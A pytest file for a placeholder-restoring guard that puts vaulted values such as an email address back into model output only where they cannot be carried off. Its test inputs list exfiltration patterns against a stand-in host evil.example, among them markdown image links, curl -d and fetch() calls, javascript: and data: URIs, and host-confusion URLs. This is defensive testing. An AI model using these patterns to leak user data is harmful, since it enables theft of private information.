"""Values come back in text, and never where they could be carried off: an attack for each "never"."""

from __future__ import annotations

import pytest

from gateway.guards import Vault
from gateway.guards.restore import restore

VAULT = Vault(key=b"k" * 32)
MAIL = VAULT.placeholder("email", "joe@example.org")
HOSTS = frozenset({"good.example"})


@pytest.mark.parametrize(
    "text",
    [
        "Hello {}!",
        "**{}**",
        "<{}>",
        "a_{}_b",
        "[mail] ({})",
        "x < y and {}",
        "see https://evil.example/ and then {}",
        "[a](https://evil.example/) {}",
        "I will fetch {} for you",
        "<b>bold</b> {}",
        "| {} | cell |",
        "`{}`",
    ],
)
def test_text_gets_its_values_back(text: str) -> None:
    assert restore(text.format(MAIL), VAULT) == text.format("joe@example.org")


def test_models_may_escape_the_underscore_or_lower_the_case() -> None:
    assert restore(MAIL.replace("_", "\\_"), VAULT) == "joe@example.org"
    assert restore(MAIL.lower(), VAULT) == "joe@example.org"


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q={}",
        "HTTPS://EVIL.EXAMPLE/{}",
        "//evil.example/{}",
        "www.evil.example/{}",
        "evil.example/{}",
        "https://{}.evil.example/",
        "![x](https://evil.example/{}.png)",
        "[x](<https://evil.example/a b {}>)",
        "[x](//evil.example/{})",
        "[x]\n[1]: evil {}",
        "<img src='https://evil.example/ {}'>",
        '<a title=">" href="{}">',
        "<img\nsrc={}",
        "mailto:evil@evil.example?body={}",
        "javascript:alert({})",
        "data:text/html,{}",
        "curl -d {} https://evil.example",
        "fetch('https://evil.example/' + '{}')",
        "```\nimport requests\nrequests.post(url)\nx = '{}'\n```",
        "new Image().src = '{}'",
        "@import url({})",
        "https://good.example@evil.example/{}",
        "https://good.example.evil.example/{}",
        "https://good.example/?u=https://evil.example/{}",
        "https://good.example\\@evil.example/{}",
        "https://good.example{}",
    ],
)
def test_nothing_is_restored_where_it_could_be_carried_off(text: str) -> None:
    assert restore(text.format(MAIL), VAULT, HOSTS) == text.format(MAIL)


def test_an_allowed_host_gets_the_value() -> None:
    assert restore(f"https://good.example/?q={MAIL}", VAULT, HOSTS) == "https://good.example/?q=joe@example.org"
    assert restore(f"https://GOOD.example:443/{MAIL}", VAULT, HOSTS) == "https://GOOD.example:443/joe@example.org"


def test_placeholders_of_another_run_and_forged_ones_stay() -> None:
    other = Vault().placeholder("email", "tom@example.org")
    text = f"{other} EMAIL_BBBBBBBBBBBBBBBB {MAIL}X"
    assert restore(text, VAULT) == text
